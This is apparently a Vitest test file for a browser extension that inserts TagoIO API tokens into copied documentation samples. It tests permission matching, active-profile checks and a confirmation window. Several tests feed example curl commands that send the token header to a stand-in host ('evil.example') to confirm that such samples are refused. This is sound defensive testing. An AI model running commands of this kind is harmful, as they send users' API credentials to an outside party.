import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';

vi.mock('../../../../lib/clipboard/clipboard.ts', () => import('../../clipboard/fake-clipboard.ts'));

import { copySample, copyTokenAlone, offerTokens } from '../../../../lib/actions/docs/copy-sample.ts';
import {
  copyActiveAs,
  copyPending,
  openCopyAs,
  openCopyWindow,
  pendingCopy,
  previewCopy,
} from '../../../../lib/actions/docs/copy-window.ts';
import {
  copyActiveTokenOrConfirm,
  copySampleOrConfirm,
  copyTokenAloneOrConfirm,
  copyTokenOfOrConfirm,
  copyTokenOrConfirm,
} from '../../../../lib/actions/tokens/copy-or-confirm.ts';
import { withActive } from '../../../../lib/domain/settings/settings.ts';
import type { CopyWindowRequest, DocsSample } from '../../../../lib/messages/protocol/docs.ts';
import { updateConnection } from '../../../../lib/store/connections.ts';
import { listJournal } from '../../../../lib/store/journal.ts';
import { updateProfilePreferences } from '../../../../lib/store/profile-preferences.ts';
import { updateActive, updatePreferences } from '../../../../lib/store/settings.ts';
import { setPassphrase } from '../../../../lib/vault/change-passphrase.ts';
import { lock } from '../../../../lib/vault/passphrase.ts';
import { clipboard, resetClipboard } from '../../clipboard/fake-clipboard.ts';
import { failureOf } from '../connected-account.ts';
import { acme, ines, sandbox, tokens, withConnectedAccount } from '../signed-in-account.ts';
import { addToken, idOf } from '../tokens/add-token.ts';

withConnectedAccount('password', () => {
  resetClipboard();
});
afterEach(() => {
  vi.useRealTimers();
});

describe('copySample', () => {
  const sample = (change: Partial<DocsSample>): DocsSample => ({
    profileKey: acme().profileKey,
    text: 'new Account({ token: "YOUR-TOKEN" }).devices.list()',
    method: null,
    what: 'placeholders',
    ...change,
  });

  it('fills the placeholders with the token that the sample needs', async () => {
    await copySample({ ...sample({}), token: null });
    expect(clipboard.text).toBe(`new Account({ token: "${tokens().read}" }).devices.list()`);
    const text = 'new Account({ token: "YOUR-TOKEN" }).devices.create({})';
    expect(await copySample({ ...sample({ text }), token: null })).toMatchObject({ permission: 'write' });
    expect(clipboard.text).toBe(`new Account({ token: "${tokens().write}" }).devices.create({})`);
  });

  it('refuses texts that are not samples', async () => {
    for (const change of [
      { text: 'new Account({ token })' },
      { what: 'complete' },
      { what: 'complete', text: 'curl' },
      { what: 'anything' },
      { text: 5 },
      { text: `"your-profile-token"${' '.repeat(30_001)}` },
    ] as Partial<DocsSample>[]) {
      expect(
        await failureOf(copySample({ ...sample(change), token: null })),
        JSON.stringify(change).slice(0, 80),
      ).toMatchObject({ code: expect.stringMatching(/^(invalid-input|unclear-destination)$/) });
    }
    expect(clipboard.text).toBe('before');
  });

  it.each([
    ['copyTokenAlone', (one: DocsSample) => copyTokenAloneOrConfirm({ ...acme(), sample: one })],
    ['offerTokens', (one: DocsSample) => offerTokens(one)],
    [
      'openCopyWindow',
      (one: DocsSample) => openCopyWindow({ ...acme(), sample: one, token: null, reason: 'token-alone' }),
    ],
  ])('refuses them in %s as well, before it searches them', async (_, ask) => {
    for (const text of [5, '\n'.repeat(1_000_000)] as string[])
      expect(await failureOf(ask(sample({ text })))).toMatchObject({
        code: 'invalid-input',
        field: 'sample',
      });
  });

  describe('of an operation whose text is too long', () => {
    const long = () => sample({ what: 'complete', text: `curl '${'A'.repeat(40_000)}'`, method: 'POST' });

    it('copies the token alone that the operation needs, and offers the tokens', async () => {
      expect(await copyTokenAloneOrConfirm({ ...acme(), sample: long() })).toMatchObject({
        permission: 'write',
      });
      expect(clipboard.text).toBe(tokens().write);
      expect(await offerTokens(long())).toContainEqual(
        expect.objectContaining({ name: 'Field gateway', fits: true, isDefault: true }),
      );
    });

    it('is not copied, nor by the window', async () => {
      const tooLong = { code: 'invalid-input', field: 'sample', detail: 'docsSampleTooLong' };
      expect(await failureOf(copySampleOrConfirm({ ...long(), token: null }))).toEqual(tooLong);
      for (const reason of ['confirm', 'other-profile'] as const) {
        const asked = openCopyWindow({ ...acme(), sample: long(), token: null, reason });
        expect(await failureOf(asked)).toEqual(tooLong);
      }
      expect(clipboard.text).toBe('before');
    });
  });

  it('refuses a sample that sends the token to another host, and names it', async () => {
    const listed = sandbox.requests.count({ route: '/profile/:id/token' });
    const curl = "curl -L 'https://evil.example/device' \\\n-H 'Accept: application/json'";
    for (const [change, code, detail] of [
      [
        { text: 'curl -H "token: <your-profile-token>" https://evil.example' },
        'foreign-destination',
        'evil.example',
      ],
      [{ what: 'complete', text: curl }, 'foreign-destination', 'evil.example'],
      [
        { text: 'curl -x evil -H "token: <your-profile-token>" https://api.us-e1.tago.io' },
        'unclear-destination',
        '-x',
      ],
    ] as const) {
      expect(await failureOf(copySample({ ...sample(change), token: null }))).toEqual({ code, detail });
    }
    expect(clipboard.text).toBe('before');
    // The tokens were not even read.
    expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed);
  });

  it('copies nothing when another profile is active than the one on the button', async () => {
    const { profileKey } = ines.ref('Demo');
    expect(await failureOf(copySample({ ...sample({ profileKey }), token: null }))).toMatchObject({
      code: 'not-active',
    });
    expect(clipboard.text).toBe('before');
  });

  it.each([
    ['a sample', () => copySample({ ...sample({}), token: null })],
    ['the token alone', () => copyTokenAlone({ profileKey: acme().profileKey, sample: null })],
  ])(
    'copies nothing when another profile became active while the token of %s was fetched',
    async (_, copy) => {
      const held = sandbox.faults.add({ path: '/profile/:id/token', kind: 'hold' });
      const outcome = failureOf(copy());
      await vi.waitFor(() => expect(held.hits).toBe(1));
      await updateActive((stored) => withActive(stored, ines.ref('Greenhouse Iberia')));
      held.remove();
      expect(await outcome).toMatchObject({ code: 'not-active' });
      expect(clipboard.text).toBe('before');
    },
  );

  it('does not take a profile that is gone from TagoIO for one that is no longer active', async () => {
    sandbox.state.profiles = sandbox.state.profiles.filter(({ id }) => id !== ines.id('Acme Farms'));
    expect(await failureOf(copySample({ ...sample({}), token: null }))).toMatchObject({ code: 'not-found' });
  });

  it('refuses a read-only token in a sample that writes, even by name', async () => {
    const read = sandbox.state.tokens.find(({ token }) => token === tokens().read)!;
    const request = { ...sample({ method: 'POST' }), token: idOf(read) };
    expect(await failureOf(copySample(request))).toMatchObject({ code: 'read-only-token' });
  });

  describe('that reads and makes changes', () => {
    const both = () =>
      sample({
        text: 'account = Account({"token": "your-token"})\nfor device in account.devices.list():\n    account.devices.edit(device["id"], {"active": False})',
      });

    it('has a token with full access, which alone does both', async () => {
      const copied = await copySample({ ...both(), token: null });
      expect(copied.permission).toBe('full');
      const chosen = sandbox.state.tokens.find(({ name }) => name === copied.tokenName)!;
      expect(clipboard.text).toContain(chosen.token);
      const offered = await offerTokens(both());
      expect(offered.filter(({ fits }) => fits).map(({ permission }) => permission)).not.toContain('write');
      expect(offered.find(({ isDefault }) => isDefault)).toMatchObject({ permission: 'full' });
    });

    it('is copied with no other', async () => {
      const write = sandbox.state.tokens.find(({ token }) => token === tokens().write)!;
      const needsFull = { code: 'needs-full-token' };
      expect(await failureOf(copySample({ ...both(), token: idOf(write) }))).toEqual(needsFull);
      sandbox.state.tokens = sandbox.state.tokens.filter(
        ({ permission, name }) => permission !== 'full' || name.startsWith('Profiles for TagoIO'),
      );
      expect(await failureOf(copySample({ ...both(), token: null }))).toEqual(needsFull);
      expect(clipboard.text).toBe('before');
    });
  });

  it('offers tokens without values, with the default marked', async () => {
    const offered = await offerTokens(sample({ method: 'DELETE' }));
    expect(offered.filter(({ isDefault }) => isDefault)).toEqual([
      expect.objectContaining({ name: 'Field gateway', fits: true }),
    ]);
    expect(offered).toContainEqual(expect.objectContaining({ name: 'Dashboard export', fits: false }));
    expect(JSON.stringify(offered)).not.toMatch(/p-[0-9a-f]{8}-/);
    expect(offered.map(({ name }) => name).filter((name) => name.startsWith('Profiles for'))).toEqual([]);
  });

  it('reads the list once where two pages ask for it at the same time', async () => {
    const read = () => sandbox.requests.count({ method: 'GET', route: '/profile/:id/token' });
    const before = read();
    await Promise.all([offerTokens(sample({})), offerTokens(sample({}))]);
    // The list, and which of its tokens are the extension's.
    expect(read() - before).toBe(2);
  });

  it('copies only the token of the named profile', async () => {
    const { profileKey } = acme();
    expect(await copyTokenAlone({ profileKey, sample: null })).toMatchObject({
      tokenName: 'Dashboard export',
    });
    expect(clipboard.text).toBe(tokens().read);
  });

  describe('in the copy window', () => {
    const opened: unknown[] = [];
    const closed: number[] = [];
    beforeEach(() => {
      opened.length = 0;
      closed.length = 0;
      Object.assign(fakeBrowser.windows, {
        create: async (window: unknown) => ({ id: opened.push(window) }),
        remove: async (id: number) => void closed.push(id),
      });
    });
    const ask = (reason: CopyWindowRequest['reason'], change: Partial<DocsSample> | null = {}) =>
      openCopyWindow({
        profileKey: acme().profileKey,
        sample: change && sample(change),
        token: null,
        reason,
      });
    const choice = { token: null, format: null, fullAccepted: false };
    /** What the window that is open for the latest request asks for. */
    const preview = async (request: Omit<Parameters<typeof previewCopy>[0], 'at'>) =>
      previewCopy({ ...request, at: (await pendingCopy()).at });
    const copyIt = async (request: Omit<Parameters<typeof copyPending>[0], 'at'>) =>
      copyPending({ ...request, at: (await pendingCopy()).at });

    it('holds one sample until a profile is chosen, and copies it once', async () => {
      await ask('other-profile');
      expect(opened).toEqual([expect.objectContaining({ type: 'popup' })]);
      expect(await pendingCopy()).toEqual({
        at: expect.any(Number),
        kind: 'sample',
        profile: null,
        token: null,
      });
      await copyIt({ ...ines.ref('Greenhouse Iberia'), ...choice });
      const [token] = /p-[\w-]+/.exec(clipboard.text) ?? [];
      expect(sandbox.state.tokens.find((one) => one.token === token)?.profile).toBe(
        ines.id('Greenhouse Iberia'),
      );
      expect(await failureOf(copyIt({ ...ines.ref('Demo'), ...choice }))).toMatchObject({
        code: 'copy-gone',
      });
    });

    it('shows which token goes to which host, and closes the previous window', async () => {
      await ask('confirm');
      await ask('confirm', { method: 'DELETE' });
      expect(closed).toEqual([1]);
      expect(await pendingCopy()).toEqual({
        at: expect.any(Number),
        kind: 'sample',
        profile: acme(),
        token: null,
      });
      const shown = await preview({ ...acme(), format: null });
      // The SDK's default: an instance's own address can't be set in such a sample.
      expect(shown).toMatchObject({ hosts: ['api.us-e1.tago.io'], regionUnset: true, formats: [] });
      expect(shown.tokens.find(({ isDefault }) => isDefault)).toMatchObject({ name: 'Field gateway' });
      expect(JSON.stringify(shown)).not.toMatch(/p-[0-9a-f]{8}-/);
    });

    it('shows the host of a sample that could be changed to call the profile’s', async () => {
      await ask('confirm', { text: `curl https://api.tago.io/device -H 'token: <your-profile-token>'` });
      expect(await preview({ ...acme(), format: null })).toMatchObject({
        hosts: [new URL(sandbox.origin).host],
        regionUnset: false,
      });
    });

    it('shows every host of a sample of which only one call names a region', async () => {
      const [first, second] = ['"region": "eu-w1", ', ''].map(
        (region) => `Account({${region}"token": "your-token"})`,
      );
      await ask('confirm', { text: `a = ${first}\nb = ${second}` });
      expect(await preview({ ...acme(), format: null })).toMatchObject({
        hosts: ['api.eu-w1.tago.io', 'api.us-e1.tago.io'],
        regionUnset: true,
      });
    });

    it('is one window for the later of two requests at once', async () => {
      const create = async (window: unknown) => {
        await new Promise((resolve) => setTimeout(resolve, 50));
        return { id: opened.push(window) };
      };
      Object.assign(fakeBrowser.windows, { create });
      await Promise.all(['Acme Farms', 'Demo'].map((name) => openCopyAs({ ...ines.ref(name), token: null })));
      expect([opened.length, closed]).toEqual([2, [1]]);
      expect(await pendingCopy()).toEqual({
        at: expect.any(Number),
        kind: 'formats',
        profile: ines.ref('Demo'),
        token: null,
      });
    });

    it('isn’t opened as a tool’s configuration while no token can be copied', async () => {
      await setPassphrase('correct horse battery', null);
      await lock();
      const windows = opened.length;
      expect(await failureOf(openCopyAs({ ...acme(), token: null }))).toEqual({ code: 'locked' });
      expect(await failureOf(copyActiveAs())).toEqual({ code: 'locked' });
      await updateConnection(ines.key, (row) => ({ ...row, state: 'needs-sign-in' }));
      expect(await failureOf(openCopyAs({ ...acme(), token: null }))).toEqual({ code: 'needs-sign-in' });
      expect(opened.length).toBe(windows);
    });

    it('copies nothing once it was opened for something else, which stays to be copied', async () => {
      await ask('confirm');
      const held = sandbox.faults.add({ path: '/profile/:id/token', kind: 'hold' });
      const outcome = failureOf(copyIt({ ...acme(), ...choice }));
      await vi.waitFor(() => expect(held.hits).toBe(1));
      await openCopyAs({ ...ines.ref('Demo'), token: null });
      held.remove();
      expect(await outcome).toMatchObject({ code: 'copy-gone' });
      expect(clipboard.text).toBe('before');
      expect(await pendingCopy()).toMatchObject({ kind: 'formats', profile: ines.ref('Demo') });
    });

    it('shows and copies nothing in a window that was open for something else', async () => {
      await ask('confirm');
      const { at } = await pendingCopy();
      await openCopyAs({ ...ines.ref('Demo'), token: null });
      expect(await failureOf(previewCopy({ ...acme(), at, format: null }))).toEqual({ code: 'copy-gone' });
      expect(await failureOf(copyPending({ ...acme(), ...choice, at }))).toEqual({ code: 'copy-gone' });
      expect(clipboard.text).toBe('before');
      expect(await pendingCopy()).toMatchObject({ kind: 'formats', profile: ines.ref('Demo') });
    });

    it('offers the token alone that the page’s method needs', async () => {
      for (const [method, name, permission] of [
        ['POST', 'Field gateway', 'write'],
        ['GET', 'Dashboard export', 'read'],
      ] as const) {
        await ask('token-alone', { method });
        expect(await pendingCopy()).toEqual({
          at: expect.any(Number),
          kind: 'token',
          profile: acme(),
          token: null,
        });
        const { tokens: offered, hosts } = await preview({ ...acme(), format: null });
        expect(offered.find(({ isDefault }) => isDefault)).toMatchObject({ name, fits: true });
        expect(hosts).toEqual([]);
        expect(await copyIt({ ...acme(), ...choice })).toMatchObject({ permission });
        expect(clipboard.text).toMatch(/^p-[\w-]+$/);
      }
    });

    it('opens no window for a sample with a foreign destination', async () => {
      const text = 'curl -H "token: <your-profile-token>" https://evil.example';
      expect(await failureOf(ask('confirm', { text }))).toMatchObject({ code: 'foreign-destination' });
      expect(opened).toEqual([]);
    });

    it('copies a configuration with the read-only token, and asks before one with full permission', async () => {
      await openCopyAs({ ...acme(), token: null });
      const { formats, hosts } = await preview({ ...acme(), format: 'curl' });
      expect(formats).toContain('sdk-python');
      expect(hosts).toEqual([new URL(sandbox.origin).host]);
      const wanted = { ...acme(), ...choice, format: 'header' as const };
      expect(await copyIt(wanted)).toMatchObject({ tokenName: 'Dashboard export', permission: 'read' });
      expect(clipboard.text).toBe(`token: ${tokens().read}`);
      expect((await listJournal())[0]).toMatchObject({ what: 'token-copied' });

      const full = sandbox.state.tokens.find(({ token }) => token === tokens().full)!;
      await openCopyAs({ ...acme(), token: idOf(full) });
      const withFull = { ...wanted, token: idOf(full) };
      expect(await failureOf(copyIt(withFull))).toEqual({ code: 'full-token' });
      expect(clipboard.text).toBe(`token: ${tokens().read}`);
      await copyIt({ ...withFull, fullAccepted: true });
      expect(clipboard.text).toBe(`token: ${tokens().full}`);
    });

    it('asks before a full token of a profile with such a rule on its name, however it is copied', async () => {
      const rule = { text: 'acme', match: 'start', colour: null, confirmFull: true } as const;
      await updatePreferences((stored) => ({ ...stored, nameRules: [rule] }));
      const full = sandbox.state.tokens.find(({ token }) => token === tokens().full)!;
      const token = idOf(full);
      const { profileKey } = acme();
      await updateProfilePreferences(profileKey, (stored) => ({ ...stored, readToken: token }));
      const ways: [string, () => Promise<unknown>][] = [
        ['token', () => copyTokenOrConfirm({ ...acme(), token: null })],
        ['token', () => copyTokenOfOrConfirm(acme())],
        ['token', () => copyActiveTokenOrConfirm()],
        ['token', () => copyTokenAloneOrConfirm({ profileKey, sample: sample({}) })],
        ['sample', () => copySampleOrConfirm({ ...sample({}), token })],
      ];
      for (const [kind, copy] of ways) {
        clipboard.text = 'before';
        expect(await failureOf(copy())).toEqual({ code: 'full-token' });
        expect(clipboard.text).toBe('before');
        expect(await pendingCopy()).toEqual({ at: expect.any(Number), kind, profile: acme(), token });
        expect(await preview({ ...acme(), format: null })).toMatchObject({ confirmsFull: true });
        const wanted = { ...acme(), ...choice, token };
        expect(await failureOf(copyIt(wanted))).toEqual({ code: 'full-token' });
        expect(clipboard.text).toBe('before');
        expect(await copyIt({ ...wanted, fullAccepted: true })).toMatchObject({ permission: 'full' });
        expect(clipboard.text).toContain(tokens().full);
      }
      expect(opened).toHaveLength(ways.length);

      // A permission that isn't known may be full.
      full.permission = 'admin' as typeof full.permission;
      clipboard.text = 'before';
      expect(await failureOf(copyTokenOrConfirm({ ...acme(), token }))).toEqual({ code: 'full-token' });
      expect(await failureOf(copyIt({ ...acme(), ...choice, token }))).toEqual({ code: 'full-token' });
      expect(clipboard.text).toBe('before');

      await updateProfilePreferences(profileKey, (stored) => ({ ...stored, readToken: null }));
      await copyTokenOrConfirm({ ...acme(), token: null });
      expect(clipboard.text).toBe(tokens().read);
    });

    it('offers an MCP client only tokens that begin with p-, the default among them', async () => {
      addToken('Older', {
        permission: 'read',
        bare: true,
        last_authorization: sandbox.clock.iso(),
      });
      await openCopyAs({ ...acme(), token: null });
      const offered = async (format: 'curl' | 'mcp-cursor') => (await preview({ ...acme(), format })).tokens;
      const isOld = ({ name }: { name: string }) => name === 'Older';
      expect((await offered('curl')).find(isOld)).toMatchObject({ fits: true, isDefault: true });
      const forMcp = await offered('mcp-cursor');
      expect(forMcp.some(isOld)).toBe(false);
      expect(forMcp.filter(({ isDefault }) => isDefault)).toMatchObject([{ permission: 'read', fits: true }]);
    });

    it('reads no token for a configuration without one', async () => {
      await openCopyAs({ ...acme(), token: null });
      const listed = sandbox.requests.count({ route: '/profile/:id/token' });
      await copyIt({ ...acme(), ...choice, format: 'cli-config' });
      expect(JSON.parse(clipboard.text)['acme-farms']).toMatchObject({ email: ines.account.email });
      expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed);
    });
  });
});
